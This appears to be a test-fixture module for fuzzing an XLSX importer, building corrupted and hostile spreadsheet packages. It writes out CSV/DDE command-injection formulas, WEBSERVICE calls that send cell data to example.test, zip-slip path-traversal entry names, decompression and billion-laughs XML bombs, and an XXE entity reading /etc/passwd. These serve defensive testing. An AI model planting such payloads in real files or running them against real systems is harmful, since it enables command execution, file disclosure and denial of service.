import { deflateRawSync } from 'node:zlib'
import type { Chance } from './chance-samples.ts'
import {
  aWorkbookOf,
  relations,
  type SampleParts,
  someRows,
  someStyles,
  withDeclaredSize,
  zipped,
} from './package-samples.ts'

export type Rows = readonly (readonly string[])[]
/** `isLarge` once in a while: what is about size comes in full size only then. */
export type Maker = (chance: Chance, rows: Rows, isLarge: boolean) => Buffer | Promise<Buffer>

const MEBIBYTE = 1024 * 1024
const sheetPart = 'xl/worksheets/sheet1.xml'
const whole = (rows: Rows, changes: SampleParts = {}) => zipped(aWorkbookOf(someRows(rows), changes))
const text = (value: string) => `<is><t>${value}</t></is>`
const cellXml = (name: string, inner: string, attributes = '') => `<c r="${name}" ${attributes}>${inner}</c>`

/** A zip written by hand, so that it can lie. */
function handZip(
  entries: readonly { name: string; content: Buffer; method?: number; flags?: number; at?: number }[],
) {
  const pieces: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const { name, content, method = 8, flags = 0, at: elsewhere } of entries) {
    const packed = method === 8 ? deflateRawSync(content) : content
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(method, 8)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(content.length, 22)
    head.writeUInt16LE(Buffer.byteLength(name), 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(flags, 8)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(content.length, 24)
    entry.writeUInt16LE(Buffer.byteLength(name), 28)
    entry.writeUInt32LE(elsewhere ?? at, 42)
    pieces.push(head, Buffer.from(name), packed)
    directory.push(entry, Buffer.from(name))
    at += head.length + Buffer.byteLength(name) + packed.length
  }
  const listed = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(listed.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...pieces, listed, end])
}

export function flipped(bytes: Buffer, chance: Chance): Buffer {
  const copy = Buffer.from(bytes)
  for (let flips = 1 + chance.below(6); flips > 0; flips--) {
    const at = chance.below(copy.length)
    copy[at] = (copy[at] ?? 0) ^ (1 << chance.below(8))
  }
  return copy
}

export const cut = (bytes: Buffer, chance: Chance): Buffer => bytes.subarray(0, chance.below(bytes.length))

const oddValues = [
  '-1',
  'NaN',
  'Infinity',
  '-1e308',
  '1e309',
  '2958466',
  '-45153',
  '0.1e-300',
  '',
  'abc',
  '12:30',
]
const oddTypes = [
  't="b"',
  't="e"',
  't="d"',
  't="n"',
  't="s"',
  't="str"',
  't="zzz"',
  's="999999"',
  's="-1"',
  's="1"',
]
const formulas = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.test/?"&amp;A1,"点我")',
  'WEBSERVICE("http://example.test/"&amp;B2)',
  'DDE("cmd";"/C calc";"x")',
  `${'SUM('.repeat(2000)}1${')'.repeat(2000)}`,
  "'\\\\example.test\\share\\[x.xlsx]表'!A1",
  'IMPORTXML("http://example.test/","//a")',
]

/** Rows whose second and later columns are replaced by something odd. */
function oddRows(rows: Rows, odd: (row: number, column: number) => string): string {
  const xml = rows.map((cells, row) => {
    const inner = cells.map((value, column) =>
      row === 0 || column === 0 ? `<c t="inlineStr">${text(value)}</c>` : odd(row, column),
    )
    return `<row r="${row + 1}">${inner.join('')}</row>`
  })
  return `<sheetData>${xml.join('')}</sheetData>`
}

export const packages: Record<string, Maker> = {
  'xlsx cut off': async (chance, rows) => cut(await whole(rows), chance),
  'xlsx with bits flipped': async (chance, rows) => flipped(await whole(rows), chance),
  'xlsx with a hole': async (chance, rows) => {
    const bytes = Buffer.from(await whole(rows))
    const from = chance.below(bytes.length)
    return bytes.fill(chance.below(256), from, Math.min(bytes.length, from + 1 + chance.below(200)))
  },
  'cells of mixed types': (chance, rows) =>
    zipped(
      aWorkbookOf(
        oddRows(rows, () => `<c ${chance.of(oddTypes)}><v>${chance.of(oddValues)}</v></c>`),
        { 'xl/styles.xml': someStyles([0, 14, 'yyyy-mm-dd', '000000']) },
      ),
    ),
  'days out of range': (chance, rows) =>
    zipped(
      aWorkbookOf(
        oddRows(
          rows,
          () => `<c s="1"><v>${chance.of(['-5', '0', '60', '2958465.99999999', '1e9', 'NaN'])}</v></c>`,
        ),
        { 'xl/styles.xml': someStyles([0, 14]) },
      ),
    ),
  'hostile formulas': (chance, rows) =>
    zipped(
      aWorkbookOf(
        oddRows(
          rows,
          () => `<c><f>${chance.of(formulas)}</f>${chance.of(['', '<v>1</v>', '<v>#REF!</v>'])}</c>`,
        ),
      ),
    ),
  'zip in zip': async (chance, rows) => {
    let deep = await whole(rows)
    for (let level = 1 + chance.below(6); level > 0; level--)
      deep = await zipped({ 'a.xlsx': deep, 'b.xlsx': deep })
    return chance.below(2) === 0 ? deep : whole(rows, { [sheetPart]: deep })
  },
  'many entries': (chance, rows, isLarge) => {
    const parts = aWorkbookOf(someRows(rows))
    const own = Object.entries(parts).map(([name, content]) => ({ name, content: Buffer.from(content) }))
    const more = isLarge ? 60_000 : 200 + chance.below(2000)
    const empty = Array.from({ length: more }, (_, at) => ({
      name: `xl/media/${at}`,
      content: Buffer.alloc(0),
      method: 0,
    }))
    return handZip([...own, ...empty])
  },
  'a bomb that says so': (chance, rows, isLarge) => {
    const size = isLarge ? 450 : 20 + chance.below(40)
    return whole(rows, { 'xl/media/a.bin': Buffer.alloc(size * MEBIBYTE) })
  },
  'a bomb in the sheet': (chance, rows, isLarge) =>
    whole(rows, { [sheetPart]: Buffer.alloc((isLarge ? 120 : 2 + chance.below(6)) * MEBIBYTE, 0x20) }),
  'a bomb that lies': async (chance, rows) =>
    withDeclaredSize(
      await whole(rows, { [sheetPart]: Buffer.alloc(4 * MEBIBYTE, 0x20) }),
      sheetPart,
      chance.below(5000),
    ),
  'entries that overlap': (chance, rows) => {
    const parts = Object.entries(aWorkbookOf(someRows(rows)))
    return handZip(
      parts.map(([name, content]) => ({ name, content: Buffer.from(content), at: chance.below(300) })),
    )
  },
  'wrong checksums': async (chance, rows) => {
    const bytes = Buffer.from(await whole(rows))
    for (let at = bytes.length - 22; at > 0; at--)
      if (bytes.readUInt32LE(at) === 0x02014b50) bytes.writeUInt32LE(chance.below(2 ** 32), at + 16)
    return bytes
  },
  'paths that lead out': (chance, rows) => {
    const evil = chance.of([
      '/etc/passwd',
      '../../../../tmp/x',
      'C:\\windows\\x',
      'xl/../../x',
      '\0',
      'a'.repeat(5000),
    ])
    const own = Object.entries(aWorkbookOf(someRows(rows))).map(([name, content]) => ({
      name,
      content: Buffer.from(content),
    }))
    const target = relations([['rId1', 'worksheet', evil.replace(/[\0&<]/g, '')]])
    const changed = own.map((part) =>
      part.name === 'xl/_rels/workbook.xml.rels' && chance.below(2) === 0
        ? { ...part, content: Buffer.from(target) }
        : part,
    )
    return handZip([...changed, { name: evil, content: Buffer.from('x') }])
  },
  'locked zip': (chance, rows) =>
    handZip(
      Object.entries(aWorkbookOf(someRows(rows))).map(([name, content]) => ({
        name,
        content: Buffer.from(content),
        flags: chance.of([1, 0x41, 0x2001]),
      })),
    ),
  'odd compression': (chance, rows) =>
    handZip(
      Object.entries(aWorkbookOf(someRows(rows))).map(([name, content]) => ({
        name,
        content: Buffer.from(content),
        method: chance.of([0, 8, 9, 12, 14, 93, 99]),
      })),
    ),
  'XML bombs': (chance, rows) => {
    const levels = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
    const bomb = `<!DOCTYPE x [<!ENTITY l0 "哈">${levels.join('')}]>`
    return whole(rows, {
      [chance.of([sheetPart, 'xl/workbook.xml', 'xl/sharedStrings.xml', '_rels/.rels'])]:
        `<?xml version="1.0"?>${bomb}<worksheet><sheetData><row r="1">${cellXml('A1', text('&l9;'), 't="inlineStr"')}</row></sheetData></worksheet>`,
    })
  },
  'external entities': (chance, rows) =>
    whole(rows, {
      [chance.of([sheetPart, 'xl/workbook.xml', 'xl/styles.xml'])]:
        `<!DOCTYPE x [<!ENTITY e SYSTEM "${chance.of(['file:///etc/passwd', 'http://example.test/x'])}">]><worksheet>&e;</worksheet>`,
    }),
  'blank formatted rows': (chance, rows, isLarge) => {
    const count = isLarge ? 1_000_000 : 500 + chance.below(5000)
    const blank = Array.from(
      { length: count },
      (_, at) => `<row r="${at + rows.length + 1}" s="1"><c r="A${at + rows.length + 1}" s="1"/></row>`,
    )
    return zipped(aWorkbookOf(someRows(rows).replace('</sheetData>', `${blank.join('')}</sheetData>`)))
  },
  '16,384 columns': (chance, rows, isLarge) => {
    const width = isLarge ? 16_384 : 150 + chance.below(400)
    return whole(rows.map((row) => [...row, ...Array.from({ length: width }, (_, at) => `列${at}`)]))
  },
  'gigantic shared strings': (chance, rows, isLarge) => {
    const count = isLarge ? 2_000_000 : 1000
    const strings =
      chance.below(2) === 0 || isLarge
        ? Array.from({ length: count }, (_, at) => `<si><t>文字${at}</t></si>`).join('')
        : `<si><t>${'长'.repeat(30_000 + chance.below(200_000))}</t></si>`
    return whole(rows, { 'xl/sharedStrings.xml': `<sst>${strings}</sst>` })
  },
  'one huge cell': (chance, rows, isLarge) =>
    whole([...rows, ['超长', '文'.repeat(isLarge ? 4 * MEBIBYTE : 20_000 + chance.below(100_000))]]),
  'missing parts': (chance, rows) => {
    const parts = aWorkbookOf(someRows(rows))
    const gone = chance.of(Object.keys(parts))
    return zipped(Object.fromEntries(Object.entries(parts).filter(([name]) => name !== gone)))
  },
  'relations in a circle': (chance, rows) => {
    const target = chance.of([
      'workbook.xml',
      '../xl/workbook.xml',
      '_rels/workbook.xml.rels',
      '../_rels/.rels',
      '.',
      '',
    ])
    return whole(rows, {
      [chance.of(['_rels/.rels', 'xl/_rels/workbook.xml.rels'])]: relations([
        ['rId1', chance.of(['worksheet', 'officeDocument', 'sharedStrings', 'styles']), target],
      ]),
    })
  },
  'markup gone wrong': (chance, rows) => {
    const xml = `<worksheet>${someRows(rows)}</worksheet>`
    const at = chance.below(xml.length)
    const piece = chance.of([
      '<',
      '>',
      '</row>',
      '"',
      '&',
      '<!--',
      '<![CDATA[',
      '<c r="',
      ']]>',
      '\0',
      '<row r="1">',
    ])
    return whole(rows, { [sheetPart]: xml.slice(0, at) + piece + xml.slice(at + chance.below(5)) })
  },
  'elements nested deep': (chance, rows, isLarge) => {
    const depth = isLarge ? 500_000 : 100 + chance.below(5000)
    return whole(rows, {
      [sheetPart]: `<worksheet>${'<a>'.repeat(depth)}${'</a>'.repeat(chance.below(2) * depth)}</worksheet>`,
    })
  },
  'styles without end': (chance, rows, isLarge) =>
    whole(rows, {
      'xl/styles.xml': someStyles(Array.from({ length: isLarge ? 400_000 : chance.below(3000) }, () => 14)),
    }),
  'merged over everything': (chance, rows) => {
    const merges = Array.from(
      { length: 1 + chance.below(3000) },
      () => `<mergeCell ref="${chance.of(['A1:XFD1048576', 'A1:B3', 'B2:A1', 'Z', 'A0:A9'])}"/>`,
    )
    return zipped(aWorkbookOf(`${someRows(rows)}<mergeCells>${merges.join('')}</mergeCells>`))
  },
  'sheets without number': (chance, rows, isLarge) => {
    const count = isLarge ? 5000 : 2 + chance.below(350)
    const sheets = Array.from(
      { length: count },
      (_, at) => `<sheet name="表${at}" sheetId="${at}" r:id="rId1"/>`,
    )
    return whole(rows, {
      'xl/workbook.xml': `<workbook xmlns:r="r"><sheets>${sheets.join('')}</sheets></workbook>`,
    })
  },
}
